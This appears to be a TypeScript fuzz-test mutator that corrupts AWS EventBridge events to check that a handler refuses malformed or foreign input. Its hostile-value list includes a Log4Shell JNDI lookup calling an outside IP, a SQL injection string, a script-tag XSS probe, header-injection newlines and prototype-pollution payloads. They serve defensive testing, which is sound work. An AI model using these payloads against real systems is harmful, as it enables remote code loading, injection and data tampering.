import type { Stream } from '../random';
import type { JsonObject } from './events';

/** A message's body after something was done to it. */
export interface Mutant {
  /** Mostly a text; a record may hold anything there. */
  readonly body: unknown;
  /** What was done, for the reader of a failure. */
  readonly how: string;
  /** It cannot be a signal any more, whatever the parser says: it must be refused, and counted. */
  readonly isRefused: boolean;
}

/** Changes the event in place, or answers the text that takes its place. */
interface Mutation {
  readonly how: string;
  readonly isRefused: boolean;
  readonly apply: (event: JsonObject, stream: Stream) => string | undefined;
}

/** Stands for what JSON.stringify cannot write, and is replaced in the text. */
const DEEP = '@deep@';
const deepText = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const DEPTHS = [10, 1_000, 20_000];

/** What no sender should send, and some do. */
const HOSTILE: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  Number.MAX_SAFE_INTEGER,
  '',
  ' ',
  [],
  {},
  [[]],
  [null],
  { toString: 1, valueOf: null },
  { length: 4_294_967_295 },
  '__proto__',
  'constructor',
  'i-*',
  '*',
  'i-0123456789abcdef0, i-0123456789abcdef1',
  '\u0000\u0007\u001B[31m',
  'line\nline\r\nSubject: hello',
  '\uD800',
  '‮evil‬',
  '${jndi:ldap://203.0.113.1/a}',
  "' OR 1=1; --",
  '<script>alert(1)</script>',
  '9999-12-31T23:59:59Z',
  '1970-01-01T00:00:00Z',
  '2024-08-01T99:99:99Z',
  'x'.repeat(10_000),
  ':'.repeat(3_000),
  ' '.repeat(3_000),
  DEEP,
];

interface Place {
  readonly holder: JsonObject | unknown[];
  readonly key: string | number;
}

const isHolder = (value: unknown): value is JsonObject | unknown[] =>
  typeof value === 'object' && value !== null;

/** Every place of the event at which there is a value. */
function places(holder: JsonObject | unknown[]): readonly Place[] {
  const keys = Array.isArray(holder) ? holder.map((_, index) => index) : Object.keys(holder);
  return keys.flatMap((key): readonly Place[] => {
    const value = valueAt({ holder, key });
    return [{ holder, key }, ...(isHolder(value) ? places(value) : [])];
  });
}

const valueAt = ({ holder, key }: Place): unknown => (holder as JsonObject)[key];

function put({ holder, key }: Place, value: unknown): undefined {
  (holder as JsonObject)[key] = value;
  return undefined;
}

function drop({ holder, key }: Place): undefined {
  if (Array.isArray(holder)) holder.splice(Number(key), 1);
  else delete holder[key];
  return undefined;
}

/** Without these an event is none. */
const REQUIRED = ['source', 'detail-type', 'detail'];

const text = (event: JsonObject): string => JSON.stringify(event);

const set =
  (key: string, values: readonly unknown[]): Mutation['apply'] =>
  (event, stream) =>
    void (event[key] = stream.pick(values));

/** Text that is no JSON object whatever was in it. */
const BROKEN: readonly Mutation[] = [
  {
    how: 'truncated',
    isRefused: true,
    apply: (event, stream) => text(event).slice(0, stream.whole(0, text(event).length - 1)),
  },
  { how: 'a byte order mark', isRefused: true, apply: (event) => `\uFEFF${text(event)}` },
  { how: 'in a list', isRefused: true, apply: (event) => `[${text(event)}]` },
  { how: 'twice in a row', isRefused: true, apply: (event) => `${text(event)}${text(event)}` },
  {
    how: 'as SNS wraps it',
    isRefused: true,
    apply: (event) => JSON.stringify({ Type: 'Notification', Message: text(event) }),
  },
  {
    how: 'no event at all',
    isRefused: true,
    apply: (_event, stream) => stream.pick(['', 'null', '7', '"text"', '[]', '{}', 'undefined']),
  },
  {
    how: 'nothing but depth',
    isRefused: true,
    apply: (_event, stream) => deepText(stream.pick(DEPTHS)),
  },
];

/** Well formed, and not ours, or not news. */
const FOREIGN: readonly Mutation[] = [
  {
    how: 'of another account',
    isRefused: true,
    apply: set('account', ['999999999999', '', null, 111_122_223_333, ['111122223333']]),
  },
  {
    how: 'of another Region',
    isRefused: true,
    apply: (event, stream) => {
      event['region'] = stream.pick(['eu-west-1', '', null, 'us-east-1a', ['us-east-1']]);
      // AWS Health names the Region of the event itself.
      const { detail } = event;
      if (isHolder(detail) && !Array.isArray(detail)) delete detail['eventRegion'];
      return undefined;
    },
  },
  {
    how: 'of another source',
    isRefused: true,
    apply: set('source', ['aws.ec2.evil', 'AWS.EC2', 'aws', 'watchdog', '__proto__', null]),
  },
  {
    how: 'of another kind',
    isRefused: true,
    apply: set('detail-type', ['EC2 Spot Instance Interruption Warning', 'tick', '*', {}, null]),
  },
  { how: 'a replay', isRefused: true, apply: set('replay-name', ['archive', '', null]) },
  {
    how: 'without what makes it an event',
    isRefused: true,
    apply: (event, stream) => void delete event[stream.pick(REQUIRED)],
  },
];

/** It may be a signal still. */
const TWISTED: readonly Mutation[] = [
  { how: 'unchanged', isRefused: false, apply: () => undefined },
  {
    how: 'a value missing',
    isRefused: false,
    apply: (event, stream) => drop(stream.pick(places(event))),
  },
  {
    how: 'a hostile value',
    isRefused: false,
    apply: (event, stream) => put(stream.pick(places(event)), stream.pick(HOSTILE)),
  },
  {
    how: 'a value of its own elsewhere',
    isRefused: false,
    apply: (event, stream) => {
      const all = places(event);
      // By text, since an object put into itself would have no end.
      const value = JSON.stringify(valueAt(stream.pick(all))) ?? 'null';
      put(stream.pick(all), JSON.parse(value));
    },
  },
  {
    how: 'another time',
    isRefused: false,
    apply: set('time', [
      '2099-12-31T23:59:59Z',
      '2001-01-01T00:00:00Z',
      'Thu, 1 Aug 2024 12:00:00 GMT',
      '2024-08-01 12: 00: 00',
      1_722_513_600,
      ...HOSTILE,
    ]),
  },
  {
    how: 'keys of the prototype',
    isRefused: false,
    apply: (event, stream) => {
      const key = stream.pick(['__proto__', 'constructor', 'prototype', 'toString']);
      const hostile = '{"polluted":true,"source":"aws.ec2","state":"stopped"}';
      return `{"${key}":${hostile},${text(event).slice(1)}`;
    },
  },
  {
    how: 'keys of the prototype in its detail',
    isRefused: false,
    apply: (event) =>
      text(event).replace('"detail":{', '"detail":{"__proto__":{"state":"stopped","polluted":1},'),
  },
  {
    how: 'a key twice',
    isRefused: false,
    apply: (event, stream) =>
      `{"source":"aws.ec2","account":"${stream.hex(12)}",${text(event).slice(1)}`,
  },
  {
    how: 'characters changed',
    isRefused: false,
    apply: (event, stream) => flipped(text(event), stream),
  },
  { how: 'JSON in JSON', isRefused: false, apply: (event) => JSON.stringify(text(event)) },
  {
    how: 'case and blanks',
    isRefused: false,
    apply: (event, stream) => {
      const place = stream.pick(places(event));
      const value = valueAt(place);
      if (typeof value === 'string') put(place, stream.pick([` ${value}\t`, value.toUpperCase()]));
    },
  },
];

/** Large ones cost time: few of them are enough. */
const HUGE: readonly Mutation[] = [
  {
    how: 'a text of 256 KB',
    isRefused: false,
    apply: (event, stream) => put(stream.pick(places(event)), 'A1 '.repeat(87_000)),
  },
  {
    how: 'a list of 20,000',
    isRefused: false,
    apply: (event, stream) => {
      const id = (index: number): string => `i-0c${index.toString(16).padStart(15, '0')}`;
      const ids = Array.from({ length: 20_000 }, (_, index) => id(index));
      put(stream.pick(places(event)), ids);
    },
  },
  {
    how: 'thousands of keys',
    isRefused: false,
    apply: (event, stream) => {
      const entries = Array.from({ length: 5_000 }, (_, index) => [`k${index}`, index]);
      put(stream.pick(places(event)), Object.fromEntries(entries));
    },
  },
];

const ODD_CHARACTERS = ['{', '}', '[', ']', '"', ',', ':', '\\', '0', 'a', 'Z', ' ', '\u0000'];

function flipped(from: string, stream: Stream): string {
  const characters = from.split('');
  for (let count = stream.whole(1, 4); count > 0; count -= 1) {
    characters[stream.whole(0, characters.length - 1)] = stream.pick(ODD_CHARACTERS);
  }
  return characters.join('');
}

/** Bodies that are no text: SQS sends none, but who invokes the function directly may. */
const NO_TEXT: readonly unknown[] = [undefined, null, 7, true, [], {}, { detail: {} }];

function draw(stream: Stream): Mutation {
  const chance = stream.next();
  if (chance < 0.25) return stream.pick(BROKEN);
  if (chance < 0.45) return stream.pick(FOREIGN);
  return stream.pick(chance > 0.995 ? HUGE : TWISTED);
}

/** Does one to three things to an event. */
export function mutate(event: JsonObject, stream: Stream): Mutant {
  if (stream.chance(0.03)) {
    return { body: stream.pick(NO_TEXT), how: 'a body that is no text', isRefused: true };
  }
  const mutations = Array.from({ length: stream.chance(0.3) ? stream.whole(2, 3) : 1 }, () =>
    draw(stream),
  );
  const how = mutations.map((mutation) => mutation.how).join(', ');
  // Two together may undo each other.
  const isRefused = mutations.length === 1 && mutations[0]?.isRefused === true;
  for (const mutation of mutations) {
    const body = mutation.apply(event, stream);
    if (body !== undefined) return { body: withDepth(body, stream), how, isRefused };
  }
  return { body: withDepth(text(event), stream), how, isRefused };
}

const withDepth = (body: string, stream: Stream): string =>
  body.includes(DEEP) ? body.replaceAll(`"${DEEP}"`, deepText(stream.pick(DEPTHS))) : body;
